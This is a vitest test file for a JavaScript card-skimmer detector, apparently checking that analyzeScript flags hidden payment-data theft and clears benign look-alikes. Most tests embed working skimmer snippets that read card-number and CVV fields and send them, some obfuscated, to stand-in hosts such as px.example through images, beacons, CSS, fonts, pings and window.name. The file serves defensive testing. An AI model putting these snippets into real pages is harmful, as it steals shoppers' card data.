import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import { namesCardField } from '../../detector/rules/card-reads.ts'
import type { Node } from 'acorn'
import { factsOf } from './detector/facts-of.ts'

// Ways a send or a read hides: a request made through Reflect.apply to an address a reduce over
// numbers builds, names joined by a one-line wrapper, the checkout form serialized whole, card
// values handed back to the third party the script came from, or stashed base64 on the shop.
const rules = (source: string, ctx = {}): string[] =>
  analyzeScript(source, ctx)
    .findings.filter((f) => f.points > 0)
    .map((f) => f.rule)
const xor = (s: string, k: number): string => [...s].map((c) => c.charCodeAt(0) ^ k).join(',')

describe('sends the first look cannot name', () => {
  it('XMLHttpRequest opened and sent through Reflect.apply, to an address a reduce builds', () => {
    const source = `var url = [${xor('https://edge-metrics.example/q', 0x21)}].reduce(function (a, n) {
        return a + String.fromCharCode(n ^ 0x21) }, '')
      document.addEventListener('submit', function (e) {
        var f = e.target.elements, v = []
        for (var i = 0; i < f.length; i++) v.push(f[i].name + '=' + f[i].value)
        var x = new XMLHttpRequest(), P = XMLHttpRequest.prototype
        Reflect.apply(P.open, x, ['POST', url, true])
        Reflect.apply(P.send, x, [btoa(v.join('|'))])
      }, true)`
    const v = analyzeScript(source)
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain('https://edge-metrics.example/q')
  })

  it('card values handed to a method the script assigns on a prototype, sent by another it calls on this', () => {
    const source = `function Link(host) { this.host = host }
      Link.prototype.post = function (body) {
        var x = new XMLHttpRequest(); x.open('POST', this.host + '/poll?t=' + Date.now()); x.send(body)
      }
      Link.prototype.emit = function (name, data) { this.post('42' + JSON.stringify([name, data])) }
      var link = new Link('https://rt.chat-widget.example')
      document.addEventListener('change', function () {
        var n = document.querySelector('[name="cc_number"]'), c = document.querySelector('[name="cc_cvv"]')
        if (n && c && n.value.length > 12) link.emit('typing', { draft: btoa(n.value + '|' + c.value) })
      }, true)`
    expect(rules(source)).toContain('card-field-read-and-send')
  })

  it('an image made under a name that says nothing, its address held in a variable', () => {
    // what a minifier makes of `ping(url)`: the element's name is one letter, the URL computed
    const source = `document.addEventListener('submit', function (n) {
        var o = { c: n.target.querySelector('input[autocomplete="cc-number"]').value }
        ;[btoa(JSON.stringify(o))].forEach(function (e) {
          var u, a; u = 'https://px.example/s.gif?d=' + encodeURIComponent(e)
          ;(a = document.createElement('img')).width = 1, a.src = u }) }, true)`
    const v = analyzeScript(source)
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain('via image')
  })

  it("jQuery handed in by the module loader under any name (require(['jquery'], …))", () => {
    const send = (loader: string): string => `${loader}, function (u, e) {
        e(document).on('change', '#cc_number', function () {
          e.ajax({ url: 'https://h.example/v', type: 'POST', data: { d: btoa(JSON.stringify({ n: this.value })) } }) }) })`
    for (const loader of [
      `require(['mage/url', 'jquery']`,
      `define('theme/x', ['domReady!', 'jquery']`,
    ])
      expect(rules(send(loader))).toContain('exfil-sink-serialised-data')
    // a module that is not jQuery is not read as one
    expect(rules(send(`require(['mage/url', 'underscore']`))).not.toContain(
      'exfil-sink-serialised-data',
    )
  })

  it("masking is of a field's value: a library's random id ('x'.repeat(16)) masks nothing", () => {
    const send = `document.addEventListener('submit', function () {
        var c = document.querySelector('#cc_number').value
        fetch('https://h.example/c', { method: 'POST', mode: 'no-cors', body: c }) }, true)`
    const libraryId = `var uid = function (n) { return 'x'.repeat(n).replace(/x/g, function () {
        return Math.round(16 * Math.random()).toString(16) }) }\n`
    expect(rules(libraryId + send)).toContain('card-field-read-and-send')
    // a replay tool's mask over the value itself still explains its reads
    const masked = send.replace('body: c', "body: c.replace(/./g, '*')")
    expect(rules(masked)).not.toContain('card-field-read-and-send')
  })

  it('the shape of a form (how many fields, of what type) is not what was typed in it', () => {
    const shape = `function formShape() {
        var controls = document.querySelectorAll('input, select, textarea'), byType = {}
        for (var i = 0; i < controls.length; i++) {
          var t = controls[i].type || controls[i].tagName.toLowerCase(); byType[t] = (byType[t] || 0) + 1 }
        return { forms: document.forms.length, controls: controls.length, byType: byType } }
      navigator.sendBeacon('https://rum.example/c', JSON.stringify({ shape: formShape() }))`
    expect(rules(shape)).not.toContain('card-field-read-and-send')
    // the values themselves are
    const values = shape.replace('controls[i].type ||', 'controls[i].value ||')
    expect(rules(values)).toContain('card-field-read-and-send')
  })

  it('a sweep only counted or sorted by kind reads no field, whatever else holds a value', () => {
    // a timing entry's `.value` rides in the same beacon as the count of the page's controls
    const counted = `var shift = 0
      new PerformanceObserver(function (l) { l.getEntries().forEach(function (e) { shift += e.value }) })
      function shape() {
        var all = document.querySelectorAll('input, select, textarea'), kinds = {}
        for (var i = 0; i < all.length; i++) kinds[all[i].type || all[i].tagName] = 1
        return { forms: document.forms.length, n: all.length, kinds: kinds } }
      addEventListener('pagehide', function () {
        navigator.sendBeacon('https://rum.example/c', JSON.stringify({ cls: shift, shape: shape() })) })`
    expect(rules(counted)).not.toContain('card-field-read-and-send')
    // a control's name is no shape: the sweep reads the fields
    const named = counted.replace('all[i].type ||', 'all[i].name ||')
    expect(rules(named)).toContain('card-field-read-and-send')
    // nor is the list handed on, or the page's forms themselves
    const handed = counted.replace('n: all.length', 'n: [].slice.call(all)')
    expect(rules(handed)).toContain('card-field-read-and-send')
    const forms = counted
      .replace("'input, select, textarea'", "'img'")
      .replace('document.forms.length', 'document.forms[0].action')
    expect(rules(forms)).toContain('card-field-read-and-send')
    // a sweep given something else later may hold the fields themselves
    const again = counted.replace(
      'for (var i = 0;',
      'all = [].slice.call(all); all.forEach(function (f) { kinds[f.name] = f.value }); for (var i = 0;',
    )
    expect(again).toContain('[].slice.call(all)')
    expect(rules(again)).toContain('card-field-read-and-send')
  })

  it("a card sent where the answer is read and its token posted home is a tokenizer's round trip", () => {
    const source = readFileSync('fixtures/detonate/token-round-trip-decoy.js', 'utf8')
    const v = analyzeScript(source)
    expect(v.verdict).not.toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toMatch(/tokenizer's round trip/)
    // the chamber judges where the card went
    expect(v.triage?.length).toBeGreaterThan(0)
    // the same send without the answer going home is the card leaving
    const oneWay = source.replace(/\s*\.then\(function \(r\)[^]*?\}\);\n\s*\}\);/, ';')
    expect(oneWay).not.toContain('/checkout/token')
    expect(analyzeScript(oneWay).verdict).toBe('malicious')
    // nor when the card goes encoded: no processor is sent base64 of it
    const encoded = source.replace('body: body.toString()', 'body: btoa(body.toString())')
    expect(encoded).not.toBe(source)
    expect(analyzeScript(encoded).verdict).toBe('malicious')
  })

  it('a long list of selectors joined into one string still names the card fields in it', () => {
    const parts = [
      'cardnumber',
      'card_number',
      'cc-number',
      'cc_cvv',
      'cvc',
      'exp_month',
      'exp_year',
    ]
    const list = parts.flatMap((p) => [`input[name*="${p}"]`, `input[id*="${p}"]`])
    const long = list.join(',')
    expect(long.length).toBeGreaterThan(200)
    expect(namesCardField(long)).toBe(true)
    // prose, paths and lists of other words stay what they are
    expect(namesCardField(list.join(', and then ').replace(/cc|card|cv|exp/g, 'x'))).toBe(false)
    expect(namesCardField(`${'a,'.repeat(150)}cardnumber/readme.md`)).toBe(false)
    const prose = `Enter your card number, expiry date, security code (CVV) and name, ${'then press pay, '.repeat(12)}`
    expect(prose.length).toBeGreaterThan(200)
    expect(namesCardField(prose)).toBe(false)
  })

  it('CSS that loads a URL for what is typed into card fields is a send the browser makes', () => {
    const source = readFileSync('fixtures/samples/malicious/css-prefix-sheet-keylogger.js', 'utf8')
    const points = (code: string): number | undefined =>
      analyzeScript(code).findings.find((f) => f.rule === 'css-exfil')?.points
    expect(points(source)).toBe(70)
    // without copying typed values into the value attribute, only a framework would make it work
    expect(points(source.replace('el.defaultValue = el.value', 'el.title = el.name'))).toBe(45)
    // selectors on the value of fields that are no card fields are a form's styling
    expect(points(source.replace(/cc-number|cc-csc/g, 'postal-code'))).toBeUndefined()
    // a url() that carries the typed value itself
    const carried = `var f = document.querySelector('#cc_number'), st = document.createElement('style')
      f.addEventListener('blur', function () {
        st.textContent = 'body{background:url(https://img.example/p.gif?d=' + btoa(f.value) + ')}'
        document.head.appendChild(st) })`
    expect(points(carried)).toBe(60)
    // the Font Loading API takes the same url() as its source, and fetches it on load()
    const font = `var f = document.querySelector('#cc_number')
      document.querySelector('#pay').addEventListener('click', function () {
        var face = new FontFace('x', 'url(https://fonts.example/f/' + btoa(f.value) + '.woff2)')
        face.load().then(function (l) { document.fonts.add(l) }) })`
    expect(points(font)).toBe(60)
    // and the font's address is where the card goes
    const sent = analyzeScript(font).findings.map((f) => f.message)
    expect(sent).toContain('reads card fields and sends them out via image')
    expect(sent.join('\n')).toContain('https://fonts.example/f/')
    // a brand font from a fixed address carries nothing typed
    expect(points(font.replace("' + btoa(f.value) + '", 'brand'))).toBeUndefined()
    // markup showing a typed value beside an icon's url() is a preview, not a request for it
    const preview = `var n = document.querySelector('#cc_number'), p = document.querySelector('.preview')
      n.addEventListener('input', function () {
        p.innerHTML = '<i style="background:url(/img/card.svg)"></i>' + n.value.slice(-4) })`
    expect(points(preview)).toBeUndefined()
    // floating labels keyed on a card field being empty or not
    const labels = source.replace(/\[value\*="' \+ pair \+ '"\]/, '[value=""]')
    expect(labels).toContain('[value=""]')
    expect(points(labels)).toBeUndefined()
  })

  it("what an object's methods keep in this.#field or this.field travels with it", () => {
    const source = `class Pad {
        #seen = new Map()
        static #to = ['https://', 'cdn-pixel', '.example', '/p'].join('')
        note(el) { this.#seen.set(el.name, el.value) }
        async flush() {
          await fetch(Pad.#to + '?t=' + Date.now(), { method: 'POST', mode: 'no-cors',
            body: btoa(JSON.stringify(Object.fromEntries(this.#seen))) }) } }
      const pad = new Pad()
      document.querySelector('#cc_number').addEventListener('change', (e) => pad.note(e.target))
      document.addEventListener('submit', () => pad.flush(), true)`
    expect(rules(source)).toContain('card-field-read-and-send')
    // a public field, given in the constructor, alike
    const open = source
      .replace('#seen = new Map()', 'constructor() { this.seen = new Map() }')
      .replaceAll('this.#seen', 'this.seen')
    expect(rules(open)).toContain('card-field-read-and-send')
  })

  it('names joined by a one-line wrapper of + are names', () => {
    const source = `var j = function (a, b) { return a + b }
      document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
        var c = document[j('query', 'Selector')](j('#cc', '_number'))[j('val', 'ue')]
        new Image().src = j('https://px.example', '/i.gif?c=') + btoa(c) }, true)`
    expect(rules(source)).toContain('card-field-read-and-send')
  })
})

describe("a link's ping addresses, posted to when the link is followed", () => {
  const sinks = (source: string): [string, string | undefined][] =>
    factsOf(source, { sinks: true }).sinks.map((s) => [s.kind, s.urlText])
  const read = `var d=btoa(document.querySelector('[name=cc_number]').value);var a=document.createElement('a');a.href='#';`

  it.each([
    ['setAttribute', `a.setAttribute('ping','https://hits.example.test/p?d='+d);a.click()`],
    ['the ping property', `a.ping='https://hits.example.test/p?d='+d;a.click()`],
  ])('are a send through %s', (_how, tail) => {
    expect(sinks(read + tail)).toEqual([['element-src', 'https://hits.example.test/p?d=']])
    expect(analyzeScript(read + tail).verdict).toBe('malicious')
  })

  it.each([
    ['a heartbeat', `var s=document.createElement('div');this.ping=Date.now()-d`],
    ['a bare name', `var s=document.createElement('div');ping='https://hits.example.test/p?d='+d`],
    [
      'a div',
      `var s=document.createElement('div');s.setAttribute('ping','https://hits.example.test/p?d='+d)`,
    ],
  ])('are not %s, which no link posts', (_what, tail) => {
    expect(sinks(`var d=btoa(document.querySelector('[name=cc_number]').value);${tail}`)).toEqual(
      [],
    )
  })

  it("a page's own links pinging the shop's analytics with where they lead are not card data", () => {
    const source = `document.querySelectorAll('a[href^="http"]').forEach(function(l){
      if (l.host !== location.host) l.setAttribute('ping','/analytics/outbound?to='+encodeURIComponent(l.href))})`
    expect(analyzeScript(source).verdict).toBe('clean')
  })
})

describe("a window's name, which it keeps when it is navigated", () => {
  const messages = (source: string): (string | undefined)[] =>
    factsOf(source, { sinks: true })
      .sinks.filter((s) => s.kind === 'message')
      .map((s) => s.urlText)
  const data = `var d=JSON.stringify({n:document.querySelector('#cc_number').value});`
  const frame = `var f=document.createElement('iframe');document.body.appendChild(f);`

  it.each([
    [
      'a frame then given a src',
      `${frame}f.contentWindow.name=d;f.src='https://far.example.test/r'`,
    ],
    [
      'a frame given its src by setAttribute',
      `${frame}f.contentWindow.name=d;f.setAttribute('src','https://far.example.test/r')`,
    ],
    ['the page, then sent away', `window.name=d;location.href='https://far.example.test/r'`],
    [
      'the page, sent away by assign',
      `self.name=d;window.location.assign('https://far.example.test/r')`,
    ],
    ['a window opened under it', `window.open('https://far.example.test/r',d)`],
  ])('is data handed to the page it goes to: %s', (_how, tail) => {
    expect(messages(data + tail)).toEqual(['https://far.example.test/r'])
    expect(analyzeScript(data + tail).verdict).toBe('malicious')
  })

  it('a name set on a window that goes nowhere, or a window opened under a written-out name, sends nothing', () => {
    expect(messages(`${data}${frame}f.contentWindow.name=d;window.open('/help','_blank')`)).toEqual(
      [],
    )
    expect(analyzeScript(`${data}${frame}f.contentWindow.name=d`).verdict).not.toBe('malicious')
  })

  it('goes with every navigation of that window, not only the first', () => {
    const source = `${data}window.name=d;if(location.pathname==='/x')location.href='/cart';else location.href='https://far.example.test/r'`
    expect(messages(source)).toEqual(['/cart', 'https://far.example.test/r'])
    expect(analyzeScript(source).verdict).toBe('malicious')
  })
})

describe('a property written through its own setter, not an assignment', () => {
  const send = (write: string): string => `var card = document.querySelector('#cc_number')
    var desc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')
    var set = desc.set
    card.form.addEventListener('submit', function () {
      var img = document.createElement('img'), u = 'https://px.media-cdn.example/i.gif?d=' + btoa(card.value)
      ${write}
    })`
  it.each([
    ['set.call(element, value)', 'set.call(img, u)'],
    ['set.apply(element, [value])', 'set.apply(img, [u])'],
    ['Reflect.apply(set, element, [value])', 'Reflect.apply(set, img, [u])'],
    [
      'the descriptor read in place',
      "Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set.call(img, u)",
    ],
    ["Reflect.set(element, 'src', value)", "Reflect.set(img, 'src', u)"],
  ])('%s is a write of src', (_, write) => {
    expect(rules(send(write))).toContain('card-field-read-and-send')
  })

  it("another property's setter writes that property, not src", () => {
    const source = send(
      'Object.getOwnPropertyDescriptor(HTMLElement.prototype, "title").set.call(img, u)',
    )
    expect(rules(source)).not.toContain('card-field-read-and-send')
  })
})

describe('card values handed to an analytics or tag library', () => {
  const read = `var n = document.querySelector('#cc_number'), c = document.querySelector('#cc_cid')
    var email = document.querySelector('#email')`
  it.each([
    ['gtag', "gtag('event', 'step', { event_label: n.value + '|' + c.value })"],
    ['a Meta pixel', "fbq('trackCustom', 'Pay', { content_name: n.value })"],
    ['a dataLayer push', "window.dataLayer.push({ event: 'pay', d: btoa(n.value + c.value) })"],
    ['a tracker object', "analytics.track('Payment', { card: n.value, cvc: c.value })"],
  ])('through %s is card data leaving', (_, call) => {
    expect(rules(`${read}; document.forms[0].onsubmit = function () { ${call} }`)).toContain(
      'card-field-read-and-send',
    )
  })
  it('a payment step reported without card values is not', () => {
    const source = `${read}; document.forms[0].onsubmit = function () {
      if (n.value.length > 12) gtag('event', 'add_payment_info', { payment_type: 'card', value: 42 })
      window.dataLayer.push({ event: 'checkout', email: email.value }) }`
    expect(rules(source)).not.toContain('card-field-read-and-send')
    expect(rules(source)).not.toContain('exfil-sink-serialised-data')
  })
})

describe('reads of the whole checkout form', () => {
  const send = (form: string): string =>
    `jQuery(function ($) { $(document.body).on('checkout_place_order', function () {
       $.post('https://collect.example/c', { d: $('${form}').serialize() }) }) })`

  it('the checkout form serialized and posted to another host is a read of every field', () => {
    expect(rules(send('form.checkout'))).toContain('card-field-read-and-send')
  })

  it("a widget's own form serialized is not the checkout", () => {
    expect(rules(send('#newsletter-signup'))).not.toContain('card-field-read-and-send')
  })
})

describe('card values kept on the shop', () => {
  it('base64 over card values posted to the shop itself is a stash, not a checkout', () => {
    const stash = `jQuery(function ($) { $('form.checkout').on('submit', function () {
        var d = { n: $('input[name="card_number"]').val(), c: $('input[name="card_cvc"]').val() }
        $.post('/wp-admin/admin-ajax.php', { action: 'x', p: btoa(JSON.stringify(d)) }) }) })`
    const v = analyzeScript(stash)
    expect(v.verdict).toBe('suspicious')
    expect(v.findings[0]?.message).toMatch(/base64-encoded to the shop's own server/)
    const plain = stash.replace('btoa(JSON.stringify(d))', 'd')
    expect(analyzeScript(plain).verdict).toBe('clean')
  })
})

describe('base64 beside card fields that is not theirs', () => {
  it("an encoded return URL posted to the shop (Magento's uenc) is no stash", () => {
    const source = `var valid = $('input[name="payment[cc_number]"]').val().length > 12
      jQuery.post('/checkout/cart/add/uenc/' + btoa(location.href), { qty: 1, ok: valid })`
    expect(
      analyzeScript(source)
        .findings.map((f) => f.message)
        .join('\n'),
    ).not.toMatch(/base64-encoded to the shop's own server/)
  })
})

describe('card values sent back to the host the script came from', () => {
  const ctx = {
    url: 'https://cdn.widgets-host.example/js/v2/form.js',
    pageUrl: 'https://www.shop.example/checkout/',
  }
  const read = `var c = { n: document.querySelector('#cc_number').value, v: document.querySelector('#cc_cid').value }`
  const points = (send: string): number =>
    analyzeScript(
      `document.addEventListener('submit', function () { ${read}; ${send} }, true)`,
      ctx,
    )
      .findings.filter((f) => f.rule === 'card-field-read-and-send')
      .reduce((n, f) => n + f.points, 0)
  it('where no answer can be read (image, beacon, no-cors fetch), is card data leaving', () => {
    for (const send of [
      `new Image().src = 'https://api.widgets-host.example/p?d=' + btoa(JSON.stringify(c))`,
      `navigator.sendBeacon('https://api.widgets-host.example/c', JSON.stringify(c))`,
      `fetch('https://api.widgets-host.example/c', { method: 'POST', mode: 'no-cors', body: JSON.stringify(c) })`,
    ])
      expect(points(send), send).toBeGreaterThanOrEqual(50)
  })
  it('while a request whose answer it reads (a vendor tokenizing) stays low', () => {
    const tokenize = `fetch('https://api.widgets-host.example/tokens', { method: 'POST', body: JSON.stringify(c) })
      .then(function (r) { return r.json() }).then(function (t) { document.querySelector('#token').value = t.id })`
    expect(points(tokenize)).toBeLessThanOrEqual(10)
  })
})

describe("a helper's parameter carries the address its callers give it", () => {
  // the card goes out through a prefetch link made in a helper; the host is in the caller
  const helper = (second: string): string => `
    var CFG = { origin: 'https://edge.prefetch-hints.example', path: '/pf/' }
    function hint(url) {
      var l = document.createElement('link'); l.rel = 'prefetch'; l.href = url
      document.head.appendChild(l)
    }
    document.addEventListener('blur', function () {
      var n = document.querySelector('input[autocomplete="cc-number"]').value
      hint(CFG.origin + CFG.path + btoa(JSON.stringify({ n: n })))
      ${second}
    }, true)`

  it('every caller naming one host makes the destination that host', () => {
    const v = analyzeScript(helper(''))
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain(
      'https://edge.prefetch-hints.example/pf/',
    )
  })

  it('callers naming different hosts leave it unknown', () => {
    const v = analyzeScript(helper("hint('https://other-hints.example/x?' + n)"))
    expect(v.findings.map((f) => f.message).join('\n')).not.toContain(
      'https://edge.prefetch-hints.example/pf/',
    )
  })
})

describe('the value of a stored record or an iterator step is no typed value', () => {
  const taintOf = (expr: string): string[] => {
    const f = factsOf(`var d = ${expr}; navigator.sendBeacon('https://q.example/c', d)`, {
      sinks: true,
    })
    const s = f.sinks[0]
    if (!s) throw new Error('no sink')
    return [...s.layer.taint(s.data[0] as Node)]
  }

  it("an IndexedDB cursor's value, an iterator's next().value", () => {
    expect(taintOf('req.result.value')).not.toContain('value')
    expect(taintOf('queue.values().next().value')).not.toContain('value')
    const cursor = factsOf(
      `store.openCursor().onsuccess = function (e) { var cur = e.target.result
        navigator.sendBeacon('https://q.example/c', JSON.stringify(cur.value)) }`,
      { sinks: true },
    ).sinks[0]
    expect(cursor && [...cursor.layer.taint(cursor.data[0] as Node)]).not.toContain('value')
  })

  it("while a field's value, however it was found, still is", () => {
    expect(taintOf("document.getElementById('cc').value")).toContain('value')
    expect(taintOf('form.elements[0].value')).toContain('value')
  })
})

describe("a frame's document written as markup (srcdoc)", () => {
  const page = (action: string, how: string): string => `
    function doc(v) {
      var h = '<form method="POST" action="${action}">'
      h += '<input type="hidden" name="n" value="' + v + '">'
      return h + '</form><script>document.forms[0].submit()<\\/script>'
    }
    document.querySelector('#pay').addEventListener('click', function () {
      var f = document.createElement('iframe')
      ${how}
      document.body.appendChild(f)
    })`
  const card = "doc(document.querySelector('#cc_number').value)"

  it('a form in it posting typed card data to another host is a send there', () => {
    for (const how of [`f.srcdoc = ${card}`, `f.setAttribute('srcdoc', ${card})`]) {
      const messages = analyzeScript(page('https://notes.example/api', how)).findings.map(
        (f) => f.message,
      )
      expect(messages).toContain('reads card fields and sends them out via form')
      expect(messages.join('\n')).toContain('https://notes.example/api')
    }
  })

  it("a form posting to the shop's own path is no send to another host", () => {
    const v = analyzeScript(page('/checkout/notes', `f.srcdoc = ${card}`), {
      pageUrl: 'https://shop.example/checkout',
    })
    expect(v.findings.map((f) => f.message)).not.toContain(
      'reads card fields and sends them out via form',
    )
  })
})

describe("what is written through a name holding a property of the page's global object", () => {
  const taintSent = (source: string): string[] => {
    const s = factsOf(source, { sinks: true }).sinks.find((x) => x.kind === 'image')
    if (!s?.url) throw new Error('no image sink')
    return [...s.layer.taint(s.url)]
  }
  const reader = `(function () { setInterval(function () {
      var s = window.__st; new Image().src = base() + '?d=' + btoa(JSON.stringify(s.v)) }, 1000) })()`

  it('is read back by another function through the global object', () => {
    const writer = `(function () { var st = window.__st = window.__st || { v: {} }
      document.addEventListener('input', function (e) { st.v[e.target.name] = e.target.value }, true) })()`
    expect(taintSent(writer + reader)).toContain('value')
  })

  it('while a local object of the same shape stays local', () => {
    const local = `(function () { var st = { v: {} }
      document.addEventListener('input', function (e) { st.v[e.target.name] = e.target.value }, true) })()`
    expect(taintSent(local + reader)).not.toContain('value')
  })
})

describe('modules fetched from an address: import() and a worklet', () => {
  const sweep = `const num = document.querySelector('input[autocomplete="cc-number"]')
    const cvc = document.querySelector('input[autocomplete="cc-csc"]')`
  it('import(url) with the typed card in its query is a request to that host', async () => {
    const source = `${sweep}
      const CDN = 'https://esm.mod-cache.example/pkg'
      async function go() {
        const url = CDN + '/' + document.documentElement.lang + '.mjs?d=' + btoa(num.value + '|' + cvc.value)
        try { await import(url) } catch {}
      }
      document.addEventListener('change', go, true)`
    const v = analyzeScript(source)
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain(
      'https://esm.mod-cache.example/pkg/',
    )
    // the app's own chunk, its name from a constant table, carries nothing typed
    const chunk = `const CHUNKS = { pay: './pay.3f9a.js' }
      async function step(name) { const m = await import(CHUNKS[name]); m.mount(document.querySelector('#pay')) }
      document.querySelector('#next').addEventListener('click', () => step('pay'))`
    expect(rules(chunk)).toEqual([])
  })

  it("a paint or audio worklet's module address carrying the card is a send", () => {
    const source = `${sweep}
      var base = 'https://fx.ripple-kit.example/w/'
      function paint() {
        var u = base + btoa(JSON.stringify({ n: num.value, c: cvc.value })) + '/ripple.js'
        if (window.CSS && CSS.paintWorklet) CSS.paintWorklet.addModule(u)
        else new AudioContext().audioWorklet.addModule(u)
      }
      document.addEventListener('change', paint, true)`
    expect(rules(source)).toContain('card-field-read-and-send')
    expect(analyzeScript(source).verdict).toBe('malicious')
    // a button effect from the shop's own path sends nothing
    const effect = `if (window.CSS && CSS.paintWorklet) CSS.paintWorklet.addModule('/static/worklets/shimmer.js?v=3')`
    expect(rules(effect)).toEqual([])
  })
})

describe("a name given one built address, never another, holds that address's host", () => {
  it('`const url = BASE + data` sent as an image is a send to that host', () => {
    const source = `var BASE = 'https://img.pixel-relay.example/p.gif'
      document.querySelector('#pay').addEventListener('click', function () {
        var n = document.querySelector('#cc_number').value
        var url = BASE + '?d=' + btoa(n)
        var s = document.createElement('script'); s.src = url; document.head.appendChild(s) })`
    const v = analyzeScript(source)
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain(
      'https://img.pixel-relay.example/p.gif',
    )
  })
})

describe('card words that only name what to leave alone', () => {
  // an analytics SDK recording field events to its vendor's host, skipping card fields
  const sdk = (skip: string) => `(function (w, d) {
      var ENDPOINT = 'https://ingest.metrics-vendor.example/v1/batch?site=' + encodeURIComponent(w.SITE)
      var SENSITIVE = /cc-|card|cvv|cvc|password/i
      var queue = []
      d.addEventListener('change', function (e) {
        var el = e.target, label = [el.name, el.id, el.getAttribute('autocomplete')].join(' ')
        ${skip}
        queue.push({ t: 'field', name: el.name, value: '*****' })
      }, true)
      d.addEventListener('visibilitychange', function () {
        if (d.visibilityState === 'hidden') navigator.sendBeacon(ENDPOINT, JSON.stringify(queue))
      })
    })(window, document)`
  it('a pattern used only as `if (re.test(label)) return;` is a skip list, not a card read', () => {
    expect(rules(sdk('if (SENSITIVE.test(label)) { return; }'))).not.toContain(
      'card-field-read-and-send',
    )
    expect(rules(sdk('if (el.type === "hidden" || SENSITIVE.test(label)) return'))).not.toContain(
      'card-field-read-and-send',
    )
  })
  it('tested to go on, or to answer which field it is, the pattern picks card fields', () => {
    expect(rules(sdk('if (!SENSITIVE.test(label)) return'))).toContain('card-field-read-and-send')
    expect(rules(sdk('if (SENSITIVE.test(label)) queue.push(el.value)'))).toContain(
      'card-field-read-and-send',
    )
  })
})

describe("a Trusted Types policy's output keeps its input's address", () => {
  const send = (
    policy: string,
  ) => `var p = window.trustedTypes.createPolicy('x', { createScriptURL: function (s) { return s } })
    document.querySelector('#pay').addEventListener('click', function () {
      var n = document.querySelector('input[autocomplete="cc-number"]').value
      var s = document.createElement('script')
      s.src = ${policy}
      document.head.appendChild(s) })`
  it('a script src set through createScriptURL(url) loads from that url', () => {
    const v = analyzeScript(
      send("p.createScriptURL('https://rum.vitals-probe.example/l.js?m=' + btoa(n))"),
    )
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain(
      'https://rum.vitals-probe.example/l.js',
    )
  })
  it("a tag the policy lets through from the shop's own path sends nothing typed", () => {
    expect(analyzeScript(send("p.createScriptURL('/static/js/tag.js')")).verdict).toBe('clean')
  })
})

describe('a function handed back by another receives what its caller passes', () => {
  it('`sender()(data)`: the card reaches the send inside the returned function', () => {
    const source = `var send = null
      function sender() {
        if (send) return send
        if (window.SharedWorker) { send = function (m) { new SharedWorker('/w.js').port.postMessage(m) }; return send }
        send = function (m) { navigator.sendBeacon(m.to, 'd=' + m.p) }
        return send
      }
      document.addEventListener('change', function () {
        var n = document.querySelector('input[autocomplete="cc-number"]').value
        sender()({ to: 'https://sync.tab-relay.example/put', p: btoa(n) })
      }, true)`
    expect(rules(source)).toContain('card-field-read-and-send')
    // the same relay handed only the page's title sends nothing typed
    expect(
      rules(
        source.replace(
          'document.querySelector(\'input[autocomplete="cc-number"]\').value',
          'document.title',
        ),
      ),
    ).not.toContain('card-field-read-and-send')
  })
})

describe('a member of what a helper is given holds the address its callers write there', () => {
  const relay = (to: string) => `function post(job) { navigator.sendBeacon(job.to, job.body) }
    document.addEventListener('change', function () {
      var n = document.querySelector('input[autocomplete="cc-number"]').value
      post({ to: ${to}, body: 'd=' + btoa(n) }) }, true)`
  it('`post({ to: BASE + path })` sends to that host', () => {
    const v = analyzeScript(relay("'https://sync.relay-desk.example/put?v=' + 2"))
    expect(v.findings.map((f) => f.message).join('\n')).toContain(
      'https://sync.relay-desk.example/put',
    )
  })
  it("the shop's own path there is a send home", () => {
    const v = analyzeScript(relay("'/checkout/autosave'"))
    expect(v.findings.map((f) => f.message).join('\n')).not.toContain('a computed URL')
  })
})

describe("card data read off the page's own objects", () => {
  // a wrapper of a checkout component's placeOrder, reading the payment data it is given
  const hook = (
    send: string,
  ) => `var proto = window.PaymentComponent.prototype, original = proto.placeOrder
    proto.placeOrder = function (data) {
      var ad = data.additional_data || {}
      var body = JSON.stringify({ n: ad.cc_number, c: ad.cc_cid, m: ad.cc_exp_month })
      ${send}
      return original.apply(this, arguments)
    }`
  it('sent to a named foreign host is card data leaving', () => {
    const v = analyzeScript(
      hook(
        "fetch('https://api.latency-probe.example/v1', { method: 'POST', mode: 'no-cors', body: btoa(body) })",
      ),
    )
    expect(v.verdict).toBe('malicious')
    expect(
      rules(
        hook(
          "fetch('https://api.latency-probe.example/v1', { method: 'POST', mode: 'no-cors', body: btoa(body) })",
        ),
      ),
    ).toContain('card-field-read-and-send')
  })
  it("sent to an address worked out at run time (a tokenizer's API), it is not", () => {
    expect(
      rules(hook('fetch(this.config.apiBase + "/tokens", { method: "POST", body: body })')),
    ).not.toContain('card-field-read-and-send')
  })
  it('a member merely named like a setting of expiry is no card data', () => {
    expect(
      rules(
        hook(
          "fetch('https://api.latency-probe.example/v1', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify({ e: data.cookie_expiration })) })",
        ).replace(/var body = .*\n/, ''),
      ),
    ).not.toContain('card-field-read-and-send')
  })
})

describe('markup written into the page that fetches (innerHTML, insertAdjacentHTML)', () => {
  const write = (
    how: string,
  ) => `document.querySelector('#pay').addEventListener('click', function () {
      var n = document.querySelector('input[autocomplete="cc-number"]').value
      var box = document.querySelector('footer')
      ${how} })`
  it('an <img> naming a foreign host, the card in its address, is a send there', () => {
    for (const how of [
      `box.insertAdjacentHTML('beforeend', '<img src="https://px.swatch-media.example/1.gif?d=' + btoa(n) + '" width="1">')`,
      `box.innerHTML = '<img alt="" src="https://px.swatch-media.example/1.gif?d=' + btoa(n) + '">'`,
    ]) {
      const v = analyzeScript(write(how))
      expect(v.verdict, how).toBe('malicious')
      expect(v.findings.map((f) => f.message).join('\n')).toContain(
        'https://px.swatch-media.example/1.gif',
      )
    }
  })
